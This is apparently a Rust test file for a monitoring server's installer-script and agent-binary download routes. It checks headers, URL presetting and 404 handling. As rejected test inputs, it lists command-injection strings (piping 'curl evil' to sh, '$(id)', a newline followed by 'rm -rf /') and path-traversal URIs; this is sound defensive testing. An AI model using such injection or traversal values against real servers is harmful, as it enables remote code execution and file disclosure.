//! `GET /install.sh`, `/install.ps1` and `/agent/<os>-<arch>` through the
//! router the server mounts, one request at a time.

use std::path::Path;

use axum::body::{Body, to_bytes};
use axum::http::{Method, Request, StatusCode, header};
use axum::response::Response;
use serversan::install::{InstallSettings, router};
use tower::ServiceExt;

const REPO_SH: &str = include_str!("../../install.sh");
const REPO_PS1: &str = include_str!("../../install.ps1");

fn settings(public_url: &str, agent_dir: Option<&Path>) -> InstallSettings {
    InstallSettings {
        public_url: public_url.to_owned(),
        agent_dir: agent_dir.map(Path::to_path_buf),
    }
}

async fn request(settings: InstallSettings, method: Method, uri: &str) -> Response {
    let req = Request::builder()
        .method(method)
        .uri(uri)
        .body(Body::empty())
        .unwrap();
    router(settings).oneshot(req).await.unwrap()
}

async fn get(settings: InstallSettings, uri: &str) -> Response {
    request(settings, Method::GET, uri).await
}

async fn body_bytes(resp: Response) -> Vec<u8> {
    to_bytes(resp.into_body(), 64 << 20).await.unwrap().to_vec()
}

async fn body_text(resp: Response) -> String {
    String::from_utf8(body_bytes(resp).await).unwrap()
}

fn content_type(resp: &Response) -> &str {
    resp.headers()
        .get(header::CONTENT_TYPE)
        .unwrap()
        .to_str()
        .unwrap()
}

/// The `error` of a JSON refusal.
async fn json_error(resp: Response) -> String {
    assert_eq!(content_type(&resp), "application/json");
    let value: serde_json::Value = serde_json::from_slice(&body_bytes(resp).await).unwrap();
    value["error"].as_str().unwrap().to_owned()
}

/// The script with exactly `from` replaced by `to`, once.
fn with_line(script: &str, from: &str, to: &str) -> String {
    assert_eq!(script.lines().filter(|l| *l == from).count(), 1, "{from}");
    script
        .split_inclusive('\n')
        .map(|l| {
            if l.trim_end() == from {
                format!("{to}\n")
            } else {
                l.to_owned()
            }
        })
        .collect()
}

#[tokio::test]
async fn install_sh_is_served_with_the_public_url_preset() {
    let resp = get(
        settings("https://mon.example:8443/ss/", None),
        "/install.sh",
    )
    .await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(content_type(&resp), "text/plain; charset=utf-8");
    assert_eq!(resp.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    let body = body_text(resp).await;
    let want = with_line(
        REPO_SH,
        "DEFAULT_SERVER=''",
        "DEFAULT_SERVER='https://mon.example:8443/ss'",
    );
    assert_eq!(body, want);
}

#[tokio::test]
async fn install_ps1_is_served_with_the_public_url_preset() {
    let resp = get(settings("http://10.0.0.5:8080", None), "/install.ps1").await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(content_type(&resp), "text/plain; charset=utf-8");
    let body = body_text(resp).await;
    let want = with_line(
        REPO_PS1,
        "$DefaultServer = ''",
        "$DefaultServer = 'http://10.0.0.5:8080'",
    );
    assert_eq!(body, want);
}

#[tokio::test]
async fn without_a_public_url_the_installers_ask_for_one() {
    let sh = body_text(get(settings("", None), "/install.sh").await).await;
    assert_eq!(sh, REPO_SH);
    let ps1 = body_text(get(settings("", None), "/install.ps1").await).await;
    assert_eq!(ps1, REPO_PS1);
}

#[tokio::test]
async fn a_public_url_that_could_inject_code_is_never_served() {
    for url in [
        "https://mon.example/'; curl evil | sh; '",
        "https://mon.example/$(id)",
        "https://mon.example/`id`",
        "https://mon.example/\nrm -rf /",
        "https://mon.example/\"",
        "https://mon.example/ x",
        "javascript:alert(1)",
        "mon.example",
    ] {
        for path in ["/install.sh", "/install.ps1"] {
            let resp = get(settings(url, None), path).await;
            assert_eq!(resp.status(), StatusCode::INTERNAL_SERVER_ERROR, "{url:?}");
            let error = json_error(resp).await;
            assert!(error.contains("SERVERSAN_PUBLIC_URL"), "{error}");
            assert!(error.contains(&path[1..]), "{error}");
        }
    }
}

fn agent_dir_with(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, content) in files {
        std::fs::write(dir.path().join(name), content).unwrap();
    }
    dir
}

#[tokio::test]
async fn agent_binaries_are_streamed_from_the_agent_directory() {
    // Larger than one read buffer, so the body really is a stream of chunks.
    let linux: Vec<u8> = (0..3_000_000u32).map(|i| (i % 251) as u8).collect();
    let windows = b"MZ windows agent".to_vec();
    let dir = agent_dir_with(&[("linux-x86_64", &linux), ("windows-x86_64.exe", &windows)]);

    let resp = get(settings("", Some(dir.path())), "/agent/linux-x86_64").await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(content_type(&resp), "application/octet-stream");
    assert_eq!(resp.headers()[header::CONTENT_LENGTH], "3000000");
    assert_eq!(
        resp.headers()[header::CONTENT_DISPOSITION],
        "attachment; filename=\"serversan-agent\""
    );
    assert!(body_bytes(resp).await == linux);

    let resp = get(settings("", Some(dir.path())), "/agent/windows-x86_64").await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(
        resp.headers()[header::CONTENT_DISPOSITION],
        "attachment; filename=\"serversan-agent.exe\""
    );
    assert_eq!(body_bytes(resp).await, windows);
}

#[tokio::test]
async fn head_answers_the_length_without_the_body() {
    let dir = agent_dir_with(&[("linux-aarch64", b"\x7fELF arm agent")]);
    let resp = request(
        settings("", Some(dir.path())),
        Method::HEAD,
        "/agent/linux-aarch64",
    )
    .await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.headers()[header::CONTENT_LENGTH], "14");
    assert!(body_bytes(resp).await.is_empty());
}

#[tokio::test]
async fn a_missing_binary_is_a_json_404_naming_the_expected_file() {
    let dir = agent_dir_with(&[("linux-x86_64", b"\x7fELF")]);
    let resp = get(settings("", Some(dir.path())), "/agent/linux-aarch64").await;
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
    let error = json_error(resp).await;
    assert!(error.contains("linux-aarch64"), "{error}");

    let resp = get(settings("", Some(dir.path())), "/agent/windows-x86_64").await;
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
    let error = json_error(resp).await;
    assert!(error.contains("windows-x86_64.exe"), "{error}");
    // The server's own paths are nobody's business.
    assert!(!error.contains(&*dir.path().to_string_lossy()), "{error}");
}

#[tokio::test]
async fn an_empty_file_or_a_directory_is_not_a_binary() {
    let dir = agent_dir_with(&[("linux-x86_64", b"")]);
    std::fs::create_dir(dir.path().join("linux-aarch64")).unwrap();
    for platform in ["linux-x86_64", "linux-aarch64"] {
        let resp = get(
            settings("", Some(dir.path())),
            &format!("/agent/{platform}"),
        )
        .await;
        assert_eq!(resp.status(), StatusCode::NOT_FOUND, "{platform}");
        assert!(json_error(resp).await.contains(platform));
    }
}

#[tokio::test]
async fn without_an_agent_directory_binaries_are_a_json_404() {
    let resp = get(settings("https://mon.example", None), "/agent/linux-x86_64").await;
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
    let error = json_error(resp).await;
    assert!(error.contains("no agent directory"), "{error}");
    assert!(error.contains("linux-x86_64"), "{error}");
}

#[tokio::test]
async fn only_known_platforms_name_a_file() {
    // A file beside the agent directory, and one inside it with a name a
    // request could spell: neither may ever be served.
    let outer = tempfile::tempdir().unwrap();
    std::fs::write(outer.path().join("secret"), b"do not serve").unwrap();
    let dir = outer.path().join("agents");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("linux-x86_64"), b"\x7fELF").unwrap();
    std::fs::write(dir.join("notes.txt"), b"do not serve").unwrap();
    for uri in [
        "/agent/..%2Fsecret",
        "/agent/%2E%2E%2Fsecret",
        "/agent/linux-x86_64%2F..%2F..%2Fsecret",
        "/agent/notes.txt",
        "/agent/linux-x86_64.exe",
        "/agent/LINUX-X86_64",
        "/agent/linux-amd64",
        "/agent/macos-aarch64",
        "/agent/linux-x86_64%00",
        "/agent/%FF%FE",
    ] {
        let resp = get(settings("", Some(&dir)), uri).await;
        assert_eq!(resp.status(), StatusCode::NOT_FOUND, "{uri}");
        let error = json_error(resp).await;
        assert!(error.contains("unknown agent platform"), "{uri}: {error}");
        assert!(error.contains("linux-x86_64, "), "{uri}: {error}");
    }
}
